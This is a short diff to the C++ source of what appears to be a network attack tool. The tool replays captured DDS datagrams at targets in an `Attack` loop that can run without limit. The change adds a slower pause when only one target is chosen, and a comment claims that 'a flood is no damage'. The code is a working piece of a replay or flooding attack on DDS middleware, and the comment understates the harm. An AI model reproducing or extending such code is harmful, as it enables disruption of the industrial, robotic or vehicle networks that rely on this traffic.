@@ -26,6 +26,8 @@ namespace {
 
 constexpr std::uint64_t kAtOnce = 100;
 constexpr std::chrono::milliseconds kPause{5};
+// Beside everything else a busy host has no time for more, and a flood is no damage.
+constexpr std::chrono::milliseconds kPauseOfOneTarget{50};
 constexpr std::ptrdiff_t kPrefixAt = 8;
 constexpr std::uint8_t kInfoDestination = 0x0e;
 
@@ -98,10 +100,11 @@ void run(std::vector<std::string> arguments) {
     std::ranges::move(dds::captured_datagrams(arguments[i]), std::back_inserter(captured));
   const std::uint64_t count = std::stoull(arguments[1]);
   Attack attack({std::stoi(arguments[0]), only}, std::stoull(arguments[2]), std::move(captured));
+  const auto pause = only.empty() ? kPause : kPauseOfOneTarget;
   auto next = std::chrono::steady_clock::now();
   for (std::uint64_t sent = 0; told_to_end == 0 && (count == 0 || sent < count); sent += kAtOnce) {
     attack.send_some();
-    std::this_thread::sleep_until(next += kPause);
+    std::this_thread::sleep_until(next += pause);
   }
 }
 
